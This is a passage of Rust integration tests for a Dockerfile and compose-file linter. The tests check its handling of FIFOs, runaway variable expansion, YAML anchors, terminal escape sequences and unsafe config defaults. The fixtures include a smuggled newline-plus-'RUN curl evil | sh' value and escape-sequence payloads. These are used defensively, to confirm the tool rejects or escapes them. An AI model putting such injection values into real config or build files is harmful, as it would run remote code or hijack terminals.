/// skipped in silence, and the other paths are still checked.
#[cfg(unix)]
#[test]
fn a_fifo_named_on_the_command_line_is_an_error_not_a_hang() {
    let dir = tree();
    let made = Command::new("mkfifo")
        .arg(dir.path().join("Dockerfile.pipe"))
        .status()
        .unwrap();
    assert!(made.success());
    let out = check(dir.path(), &["Dockerfile.pipe", "other"]);
    assert_eq!(code(&out), Some(2));
    let stderr = stderr(&out);
    assert!(
        stderr.contains("Dockerfile.pipe: not a regular file or a directory"),
        "{stderr}"
    );
    assert_other_checked(&out);
}

/// `${X:-${X:-…}}` 12,000 deep overflowed the stack (SIGABRT, exit 134): every recursive descent over
/// input is bounded, and the bound is a CB000 at the value, in a compose file and in a Dockerfile.
#[test]
fn deeply_nested_interpolation_is_a_finding_not_a_stack_overflow() {
    let dir = tree();
    let deep = |end: &str| format!("{}{end}{}", "${X:-".repeat(12_000), "}".repeat(12_000));
    let compose = format!("services:\n  a:\n    build: \"{}\"\n", deep("./other"));
    write(dir.path(), "compose.yaml", compose.as_bytes());
    let dockerfile = format!(
        "FROM alpine\nARG A={}\nRUN git clone -b $A https://github.com/acme/deep.git /d\n",
        deep("main")
    );
    write(dir.path(), "deep/Dockerfile", dockerfile.as_bytes());
    let out = check_limited(dir.path(), 512, &[]);
    assert_eq!(code(&out), Some(1), "{}", stderr(&out));
    let stdout = stdout(&out);
    for line in [
        "compose.yaml:3:12: CB000 [error] service `a`: this value nests `${…}` more than 64 deep",
        "deep/Dockerfile:2:1: CB000 [error] cannot expand the variables here: `${…}` nested more than 64 deep",
        "deep/Dockerfile:3:5: CB001",
    ] {
        assert!(stdout.contains(line), "{line} in:\n{stdout}");
    }
    assert_other_checked(&out);
}

/// `ARG A=${A}${A}${A}${A}` fourteen times (398 bytes) took 15-19 s and 2.9 GB: each value and a file's
/// sum of expansions are bounded, and the bound is a CB000 at the instruction that hit it.
#[test]
fn arg_expansion_that_grows_exponentially_is_bounded() {
    let dir = tree();
    let mut text = String::from("FROM alpine\nARG A=x\n");
    text += &"ARG A=${A}${A}${A}${A}\n".repeat(20);
    text += "RUN git clone -b \"$A\" https://github.com/acme/big.git /b\n";
    write(dir.path(), "big/Dockerfile", text.as_bytes());
    let out = check_limited(dir.path(), 512, &[]);
    assert_eq!(code(&out), Some(1), "{}", stderr(&out));
    let stdout = stdout(&out);
    assert!(
        stdout.contains(
            "big/Dockerfile:12:1: CB000 [error] cannot expand the variables here: a value that expands past 256 KiB"
        ),
        "{stdout}"
    );
    assert!(
        stdout.len() < 4096,
        "the report stays small: {} bytes",
        stdout.len()
    );
    assert_other_checked(&out);
}

/// A valid compose file of 100 services merging one anchor was "budget breached: AliasAnchorRatio";
/// an alias bomb stays bounded (`a_yaml_alias_bomb_is_an_error_in_bounded_memory`).
#[test]
fn many_services_merging_one_anchor_are_checked() {
    let dir = tree();
    let mut text = String::from("x-d: &d\n  build: ./other\nservices:\n");
    for i in 0..100 {
        text += &format!("  s{i}:\n    <<: *d\n");
    }
    write(dir.path(), "compose.yaml", text.as_bytes());
    let out = check(dir.path(), &[]);
    assert_eq!(code(&out), Some(1), "{}", stderr(&out));
    let stdout = stdout(&out);
    // Read and merged: its one build is the ordinary file's, with its one finding.
    let codes: Vec<&str> = stdout.lines().filter(|l| l.contains(": CB")).collect();
    assert_eq!(codes.len(), 1, "{stdout}");
    assert_other_checked(&out);
}

/// `--config /dev/zero` read without limit and `--config FIFO` blocked for ever: the config reader has
/// the rules of linted files (a regular file, at most 10 MiB), and each is an error (exit 2) at once.
#[test]
fn a_config_that_is_a_device_or_a_fifo_is_an_error_not_a_hang() {
    let dir = tree();
    let fifo = dir.path().join("cachebust.fifo");
    let made = Command::new("mkfifo").arg(&fifo).status();
    let mut configs = vec!["/dev/zero".to_string()];
    if made.is_ok_and(|s| s.success()) {
        configs.push(fifo.display().to_string());
    } else {
        eprintln!("mkfifo is not available: only /dev/zero is tried");
    }
    for config in configs {
        let mut child = command(dir.path(), &["check", "--config", &config, "other"])
            .stdout(Stdio::null())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
        while child.try_wait().unwrap().is_none() && std::time::Instant::now() < deadline {
            std::thread::sleep(std::time::Duration::from_millis(20));
        }
        let done = child.try_wait().unwrap();
        if done.is_none() {
            child.kill().unwrap();
        }
        let out = child.wait_with_output().unwrap();
        assert_eq!(
            done.and_then(|s| s.code()),
            Some(2),
            "{config} hung or failed"
        );
        assert!(
            stderr(&out).contains("cannot read the config file: not a regular file"),
            "{config}: {}",
            stderr(&out)
        );
    }
}

/// A Dockerfile from a pull request must not drive the reviewer's terminal: escape sequences (a title
/// change, a screen clear), BEL, NUL, a lone CR, C1 controls and bidi overrides are shown escaped in
/// every human format, on stdout and stderr; JSON keeps them, escaped as JSON does.
#[test]
fn control_characters_from_a_file_are_shown_escaped() {
    let dir = tree();
    let text = "FROM alpine\nARG REF=\"ma\u{1b}]0;pwned\u{7}in\u{1b}[2J\u{0}x\rz\u{85}\"\n\
                RUN git clone -b ${REF} https://github.com/a/b\u{202e}c.git /s\n\
                RUN [\"git\", \"clone\", \"-b\", \"dev\\u001b[5m\", \"https://github.com/a/c.git\", \"/c\"]\n";
    write(dir.path(), "ctl/Dockerfile", text.as_bytes());
    // A lone CR is a line break to Docker's parser: the diff keeps it as the line's ending.
    let raw = ['\u{1b}', '\u{7}', '\u{0}', '\u{85}', '\u{202e}'];
    for args in [
        vec!["--output-format", "full"],
        vec!["--output-format", "concise"],
        vec!["--output-format", "github"],
        vec!["--diff"],
        vec!["--statistics"],
    ] {
        let mut all = vec!["check", "--isolated", "--color", "never"];
        all.extend(&args);
        all.push("ctl/Dockerfile");
        let out = command(dir.path(), &all).output().unwrap();
        let shown = format!("{}{}", stdout(&out), stderr(&out));
        assert!(
            !shown.contains(raw),
            "{args:?} prints a control character raw: {shown:?}"
        );
        if args[0] != "--diff" {
            assert!(
                !shown.contains('\r'),
                "{args:?} prints a lone CR: {shown:?}"
            );
        }
        if args[0] != "--statistics" && args[0] != "--diff" {
            assert!(
                shown.contains(r"ma\x1b]0;pwned\x07in\x1b[2J"),
                "{args:?}: {shown}"
            );
        }
    }
    // With colours the report's own escapes are there, the file's are not.
    let out = command(
        dir.path(),
        &["check", "--isolated", "--color", "always", "ctl/Dockerfile"],
    )
    .output()
    .unwrap();
    let shown = stdout(&out);
    assert!(
        !shown.contains("\u{1b}]0;") && !shown.contains("\u{1b}[2J"),
        "{shown:?}"
    );
    assert!(shown.contains(r"\x1b[2J"), "{shown}");
    // Standard input's remaining findings go to stderr, escaped too.
    let mut child = command(dir.path(), &["check", "--isolated", "-", "--fix"])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    std::io::Write::write_all(
        child.stdin.as_mut().unwrap(),
        b"FROM alpine\nRUN git clone https://u:p@h/a\x1b[2J.git /s\n",
    )
    .unwrap();
    drop(child.stdin.take());
    let out = child.wait_with_output().unwrap();
    assert!(!stderr(&out).contains('\u{1b}'), "{:?}", stderr(&out));
    assert!(
        stdout(&out).contains('\u{1b}'),
        "the fixed file itself is kept byte for byte"
    );
    // JSON: the message keeps the character, as the JSON spec escapes it.
    let out = command(
        dir.path(),
        &[
            "check",
            "--isolated",
            "--output-format",
            "json",
            "ctl/Dockerfile",
        ],
    )
    .output()
    .unwrap();
    let findings: Vec<serde_json::Value> = serde_json::from_slice(&out.stdout).unwrap();
    assert!(!stdout(&out).contains('\u{1b}'), "{}", stdout(&out));
    assert!(findings[0]["message"].as_str().unwrap().contains('\u{1b}'));
}

/// One finding, one line, in the line formats: an exec-form RUN's JSON string can hold a newline.
#[test]
fn a_constant_with_a_newline_is_one_finding_on_one_line() {
    let dir = tree();
    let text = "FROM alpine\nRUN [\"git\", \"clone\", \"-b\", \"ma\\nin\\r\\nx\", \"https://github.com/a/b.git\", \"/s\"]\n";
    write(dir.path(), "nl/Dockerfile", text.as_bytes());
    let out = check(dir.path(), &["nl/Dockerfile"]);
    let lines: Vec<&str> = std::str::from_utf8(&out.stdout).unwrap().lines().collect();
    assert_eq!(lines.len(), 1, "{lines:?} {}", stderr(&out));
    assert!(lines[0].starts_with("nl/Dockerfile:2:"), "{lines:?}");
    assert!(lines[0].contains(r"ma\nin\r\nx"), "{lines:?}");
    let github = [
        "check",
        "--isolated",
        "--output-format",
        "github",
        "nl/Dockerfile",
    ];
    let out = command(dir.path(), &github).output().unwrap();
    assert_eq!(stdout(&out).lines().count(), 1, "{}", stdout(&out));
}

/// A config `default` is written into Dockerfiles and compose files: one that could change their
/// structure (a trailing backslash swallowing the next line, a newline, a blank, a quote, `$`, `}`, a
/// control character) is an error at its place in the config, and nothing is written.
#[test]
fn a_config_default_that_would_change_the_file_is_an_error_at_its_place() {
    for default in [
        r#""C:\\""#,
        r#""a\nRUN curl evil | sh""#,
        r#""two words""#,
        r#""x\"y""#,
        r#""${HOME}""#,
        r#""a}b""#,
        r#""esc\u001b[2J""#,
        r#""a#b""#,
    ] {
        let dir = tree();
        let config = format!("[cache-bust]\ndefault = {default}\n");
        write(dir.path(), "cachebust.toml", config.as_bytes());
        let out = command(
            dir.path(),
            &["check", "--fix", "--output-format", "concise"],
        )
        .output()
        .unwrap();
        let err = stderr(&out);
        assert_eq!(code(&out), Some(2), "{default}: {err}");
        assert!(err.contains("cachebust.toml:2:11"), "{default}: {err}");
        assert!(
            err.contains("`default` must be one plain word"),
            "{default}: {err}"
        );
        assert!(!err.contains('\u{1b}'), "{default}: {err:?}");
        let text = std::fs::read_to_string(dir.path().join("other/Dockerfile")).unwrap();
        assert_eq!(text, OTHER, "{default}: the file was written");
    }
    let dir = tree();
    write(
        dir.path(),
        "cachebust.toml",
        b"[cache-bust]\ndefault = \"v1.2+build:3\"\n",
    );
    let out = command(dir.path(), &["check", "--fix"]).output().unwrap();
    assert_eq!(code(&out), Some(0), "{}", stderr(&out));
    let text = std::fs::read_to_string(dir.path().join("other/Dockerfile")).unwrap();
    assert!(text.contains("ARG CACHE_BUST=v1.2+build:3\n"), "{text}");
}

/// Config errors are worded for users, at their place: no serde or TOML-library words
/// (`invalid type`, `sequence`, `variant`, `wanted string or table`).
#[test]
fn config_errors_speak_of_lists_tables_and_keys() {
    for (config, said) in [
        (
            "select = \"CB001\"\n",
            "expected a list (`[…]`), found the string \"CB001\"",
        ),
        ("fail-level = 3\n", "expected a string in quotes"),
        (
            "[cache-bust]\necho = \"yes\"\n",
            "expected `true` or `false`, found the string \"yes\"",
        ),
        ("[severity]\nCB001 = \"loud\"\n", "unknown value `loud`"),
        ("fail-levle = 1\n", "unknown key `fail-levle`"),
        ("cache-bust = 3\n", "expected a table, found the number 3"),
    ] {
        let dir = tree();
        write(dir.path(), "cachebust.toml", config.as_bytes());
        let out = command(dir.path(), &["check"]).output().unwrap();
        let err = stderr(&out);
        assert_eq!(code(&out), Some(2), "{config}: {err}");
        assert!(err.contains(said), "{config}: {err}");
        assert!(
            err.contains("[cachebust.toml:"),
            "{config}: no location: {err}"
        );
        for jargon in ["invalid type", "sequence", "variant", "wanted string"] {
            assert!(!err.contains(jargon), "{config}: {err}");
        }
    }
    let dir = tree();
    write(
        dir.path(),
        "compose.yaml",
        b"services:\n  a: &x\n    build: *y\n",
    );
    let out = check(dir.path(), &["compose.yaml"]);
    assert!(
        stdout(&out).contains("compose.yaml:3:12: CB000 [error] cannot parse this compose file: an alias (`*name`) refers to an anchor"),
        "{}",
        stdout(&out)
    );
}

// ---- h-scale: parser and compose edge cases --------------------------------------------------------

#[test]
fn a_heredoc_after_the_first_word_is_parsed_and_the_file_checked() {
    let dir = tree();
    let text = "FROM alpine\nRUN python3 <<EOF\nprint(1)\nEOF\nRUN bash <<'EOF'\ngit clone -b main https://github.com/acme/x.git /x\nEOF\nRUN git clone -b main https://github.com/acme/y.git /y\n";
    write(dir.path(), "a/Dockerfile", text.as_bytes());
    let out = check(dir.path(), &["a"]);
    let shown = stdout(&out);
    assert!(!shown.contains("CB000"), "{shown}");
    assert!(shown.contains("a/Dockerfile:6:1: CB001"), "{shown}");
    assert!(shown.contains("a/Dockerfile:8:5: CB001"), "{shown}");
    let fixed = command(dir.path(), &["check", "--isolated", "--fix", "a"])
        .output()
        .unwrap();
    assert_eq!(fixed.status.code(), Some(0), "{}", stderr(&fixed));
    let after = std::fs::read_to_string(dir.path().join("a/Dockerfile")).unwrap();
    assert!(
        after.contains("RUN python3 <<EOF\nprint(1)\nEOF\n"),
        "{after}"
    );
    assert!(after.contains("ARG CACHE_BUST"), "{after}");
    let again = command(dir.path(), &["check", "--isolated", "--fix", "a"])
        .output()
        .unwrap();
    assert_eq!(again.status.code(), Some(0), "{}", stderr(&again));
    let twice = std::fs::read_to_string(dir.path().join("a/Dockerfile")).unwrap();
    assert_eq!(twice, after);
}

#[test]
fn an_empty_compose_target_builds_the_last_stage() {
    let dir = tree();
    write(
        dir.path(),
        "c/Dockerfile",
        b"FROM alpine AS base\nFROM base\nARG CACHE_BUST\nRUN git clone -b main https://github.com/acme/c.git /c\n",
    );
    write(
        dir.path(),
        "c/compose.yaml",
        b"services:\n  a:\n    build:\n      context: .\n      target: ''\n",
    );
    let out = check(dir.path(), &["c"]);
    let shown = stdout(&out);
    assert!(!shown.contains("CB000"), "{shown}");
    // The last stage declares the bust arg and compose does not pass it: its CB004, not a CB000.
    assert_eq!(shown.matches("CB004").count(), 1, "{shown}");
}
